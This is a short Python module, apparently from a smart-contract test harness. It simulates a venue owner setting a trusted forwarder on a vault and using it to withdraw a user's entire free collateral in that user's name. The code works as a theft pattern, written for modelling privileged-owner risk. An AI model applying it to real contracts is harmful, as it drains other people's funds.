"""A venue whose owner takes what lies there, by what the venue's own contracts let him do."""

from __future__ import annotations

from harnesses import harness
from worlds import World


def held(world: World) -> tuple[object, object]:
    """Our account at the venue, and the token that lies there: as the venue is asked for it."""
    return world.tandem.venue, world.curie.usdc


def steal(world: World, most: int = 2**255) -> int:
    """The venue's owner withdraws, in our name, all that the venue would let us have: token units."""
    curie, t = world.curie, world.tandem
    forwarder = world.engine.deploy(harness("unit/curie_venue/Forwarder.vy"))
    curie.vault.send("setTrustedForwarder", forwarder, sender=curie.owner)
    amount = min(curie.vault.call("getFreeCollateralByToken", *held(world)), most)
    order = curie.vault.abi.function("withdraw", 2).encode((curie.usdc.address, amount))
    forwarder.send("forward", curie.vault, order, t.venue, sender=curie.owner)
    return int(amount)
